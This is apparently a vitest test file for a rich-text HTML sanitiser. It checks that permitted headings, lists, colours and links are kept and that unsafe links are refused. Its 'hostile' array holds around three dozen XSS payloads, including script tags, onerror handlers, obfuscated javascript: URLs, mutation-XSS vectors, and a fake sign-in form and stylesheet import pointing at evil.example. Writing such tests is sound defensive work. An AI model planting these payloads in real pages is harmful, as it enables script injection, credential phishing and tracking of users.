// The sanitiser of rich text: permitted text is unchanged, and of thirty hostile snippets nothing
// is left that runs, loads or misleads.
import { describe, expect, it } from 'vitest';
import { richTextColours } from '#domain/kit/rich-text/colours.ts';
import { sanitiseRichText } from './sanitise.ts';

const clean = (html: string): string => sanitiseRichText(html).html;

describe('rich text', () => {
  it('keeps headings, lists, marks, colours and links (R383, R384)', () => {
    const written = [
      ...[1, 2, 3, 4, 5, 6].map((level) => `<h${level}>Title</h${level}>`),
      '<p>One <strong>two</strong> <em>three</em> <u>four</u><br />five</p>',
      '<ul><li><p>a</p></li></ul><ol><li>b</li></ol>',
      ...richTextColours.map((colour) => `<p><span style="color:${colour}">x</span></p>`),
      '<p><a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">x</a> {{first_name}}</p>',
    ].join('');
    expect(clean(written)).toBe(written);
  });

  it('accepts the markup that editors use for the same', () => {
    expect(clean('<div><b>a</b> <i>b</i> <span style="color: Red;">c</span></div>')).toBe(
      '<p><strong>a</strong> <em>b</em> <span style="color:red">c</span></p>',
    );
    expect(clean('<p><a href=" http://x.example ">x</a></p>')).toContain('href="http://x.example"');
  });

  it.each([
    'javascript:alert(1)',
    ' JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    '//evil.example',
    '/relative',
    'mailto:x@y.example',
    'https://x.example/{{setup_link}}',
    'https://',
  ])('refuses a link to %j and keeps its words (R247)', (href) => {
    const { html, refusedLinks } = sanitiseRichText(
      `<p><a href="${href.replaceAll('<', '&lt;')}">words</a></p>`,
    );
    expect([html, refusedLinks.length]).toEqual(['<p>words</p>', 1]);
  });
});

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object>',
  '<embed src="x.swf">',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="https://good.example" onclick="alert(1)" style="position:fixed">x</a>',
  '<p onmouseover="alert(1)">x</p>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<span style="color:red;position:fixed;top:0">x</span>',
  '<span style="color:expression(alert(1))">x</span>',
  '<span style="color:url(https://evil.example)">x</span>',
  '<style>@import "https://evil.example/x.css"; p { color: red }</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
];

describe('a hostile snippet', () => {
  it.each(hostile)('%s leaves only allowed markup', (snippet) => {
    const html = clean(`<p>before</p>${snippet}<p>after</p>`);
    const allowed = new RegExp(
      `^</?(?:h[1-6]|p|ul|ol|li|strong|em|u)>$|^<br />$|^</span>$|^<span style="color:(?:${richTextColours.join('|')})">$|^</a>$|^<a href="https?://[^"<>]*" target="_blank" rel="noopener noreferrer">$`,
    );
    for (const [tag] of html.matchAll(/<[^>]*>?/g)) expect(tag).toMatch(allowed);
    expect(html).toContain('before');
    expect(clean(html)).toBe(html);
  });
});
